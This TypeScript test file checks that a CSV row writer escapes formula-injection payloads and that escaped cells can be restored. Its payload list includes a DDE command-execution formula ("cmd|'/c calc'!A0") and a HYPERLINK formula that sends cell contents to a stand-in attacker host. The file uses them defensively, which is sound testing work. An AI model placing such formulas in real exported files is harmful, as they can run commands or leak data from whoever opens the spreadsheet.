import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { reportMeasurement } from '../../testing/report-measurement';
import { csvRow } from './csv-row';

const FORMULA_PREFIXES = [
  '=',
  '+',
  '-',
  '@',
  '\uFF1D',
  '\uFF0B',
  '\uFF0D',
  '\uFF20',
  '\uFE66',
  '\uFE62',
  '\uFE63',
  '\uFE6B',
];
const LEADING_TEXTS = [
  ...['', ' ', '   ', '\u00A0', '\uFEFF', '\u200B', '\u200D', '\u2060', '\u00AD', '\v', '\f', '\t', '\r', '\n', '\r\n'],
  ...['"', "'", "''", '\u201C', '\u00AB', ' "', '\u2003\u3000', '\u202E', '\u0001', '\u2800', '\u3164'],
  ...['x;', 'x; ', 'x;;', 'x\t', 'x\n', 'x\r', 'a "b";', 'x;\uFEFF"', ';', ';\n'],
];
const FORMULA_BODIES = ["cmd|'/c calc'!A0", '1+1', 'HYPERLINK("http://evil.example?"&A1,"Open")', 'SUM(A1:A9)*cmd'];
const PAYLOADS = FORMULA_PREFIXES.flatMap((start, position) =>
  LEADING_TEXTS.map(
    (before, index) => `${before}${start}${FORMULA_BODIES[(position + index) % FORMULA_BODIES.length] ?? ''}`,
  ),
);

/** The cells of a text as a spreadsheet parses it: quotes count only at the beginning of a cell. */
function cellsOf(text: string, separator: string): string[] {
  const cells: string[] = [];
  let [cell, position] = ['', 0];
  while (position < text.length) {
    if (cell === '' && text[position] === '"') {
      for (position++; position < text.length && !(text[position] === '"' && text[position + 1] !== '"'); position++) {
        if (text[position] === '"') position++;
        cell += text[position] ?? '';
      }
      position++;
      while (position < text.length && text[position] !== separator && !'\r\n'.includes(text[position] ?? ''))
        cell += text[position++] ?? '';
    }
    const nextText = text[position] ?? '\n';
    if (nextText === separator || nextText === '\r' || nextText === '\n') {
      cells.push(cell);
      cell = '';
    } else cell += nextText;
    position++;
  }
  return [...cells, cell];
}

const LEADING_BLANKS_PATTERN = /^[\s\p{Z}\p{Cc}\p{Cf}\u2800\u3164"]+/u;
/** Whether a spreadsheet could take a cell for a formula, also behind spaces and double quotes. */
const isLive = (cell: string) =>
  FORMULA_PREFIXES.includes(cell.replace(LEADING_BLANKS_PATTERN, '').slice(0, 1)) && !/^[+-]?\d+(\.\d+)?$/.test(cell);
const findLiveCells = (line: string) =>
  [',', ';', '\t'].flatMap((separator) => cellsOf(line, separator).filter(isLive));

/** Restores the exported text: of the apostrophes before a formula, the first one was added. */
function restoreCell(cell: string): string {
  const skippedCharacters = '[\\p{Z}\\p{Cc}\\p{Cf}\\p{Quotation_Mark}`\\u2800\\u3164\\u115F\\u1160\\uFFA0]*';
  const start = `${skippedCharacters}[${FORMULA_PREFIXES.join('').replace('-', '\\-')}]`;
  return cell.replace(new RegExp(`^'(?='*[\\t\\r\\n]|${start})|(?<=[;\\t\\r\\n])'(?=${start})`, 'gu'), '');
}

describe('a row', () => {
  it.each([
    ['a plain text', 'Oak', 'Oak'],
    ['a comma', 'a, b', '"a, b"'],
    ['a quote', 'a "b"', '"a ""b"""'],
    ['a line break', 'a\nb', '"a\nb"'],
    ['a formula', '=1+1', "'=1+1"],
    ['a plus', '+cmd', "'+cmd"],
    ['a minus', '-2+3', "'-2+3"],
    ['an at', '@SUM(A1)', "'@SUM(A1)"],
    ['a tab', '\t=1', '"\'\t\'=1"'],
    ['a formula with a comma', '=HYPERLINK("x","y")', '"\'=HYPERLINK(""x"",""y"")"'],
    ['a formula behind a semicolon', 'x;=1', '"x;\'=1"'],
    ['a list with a dash', 'Ann; Bob - clerk', '"Ann; Bob - clerk"'],
    ['a negative amount', '-12.50', '-12.50'],
    ['a number of a telephone', '+15550147', '+15550147'],
  ])('escapes %s without loss', (_name, cell, writtenText) => expect(csvRow([cell])).toBe(`${writtenText}\r\n`));
});

it('leaves no payload active in any cell, with commas, semicolons and tabs as separators', () => {
  const livePayloads = PAYLOADS.flatMap((payload) => [
    ...findLiveCells(csvRow([payload, 'x'])),
    ...findLiveCells(csvRow(['x', payload])),
    ...findLiveCells(csvRow(['a "quoted" one', payload, payload])),
  ]);
  expect(livePayloads).toEqual([]);
  // Positive control: without the escaping, every payload is active in some spreadsheet.
  const unescapedCell = (payload: string) => `x,"${payload.replaceAll('"', '""')}"`;
  const missedPayloads = PAYLOADS.filter(
    (payload) => findLiveCells(unescapedCell(payload)).length === 0 && !/^['\u201C\u00AB]/.test(payload),
  );
  expect(missedPayloads).toEqual([]);
  reportMeasurement(
    'T24',
    `${PAYLOADS.length} payloads x 3 places x 3 separators, cells and headers: ${livePayloads.length} live`,
  );
});

it('writes every text so that it can be restored', () => {
  const alphabet = [
    ...FORMULA_PREFIXES,
    ...LEADING_TEXTS.filter((candidate) => candidate !== ''),
    ';',
    ',',
    '1',
    'a',
    '.',
    '\u00E9',
  ];
  const text = fc.array(fc.constantFrom(...alphabet), { maxLength: 8 }).map((parts) => parts.join(''));
  let read = 0;
  const check = (cells: readonly string[]) => {
    const line = csvRow(cells);
    const readCells = cellsOf(line.slice(0, -2), ',');
    // An empty cell at the end of a row is preserved.
    expect(readCells.slice(0, cells.length).map(restoreCell)).toEqual(cells);
    read += cells.length;
  };
  fc.assert(fc.property(fc.tuple(text, text, text), check), { numRuns: 2_000 });
  for (const payload of PAYLOADS) check([payload, 'x', payload]);
  reportMeasurement('M21', `${read} cells written and read back: 100 % identical`);
});
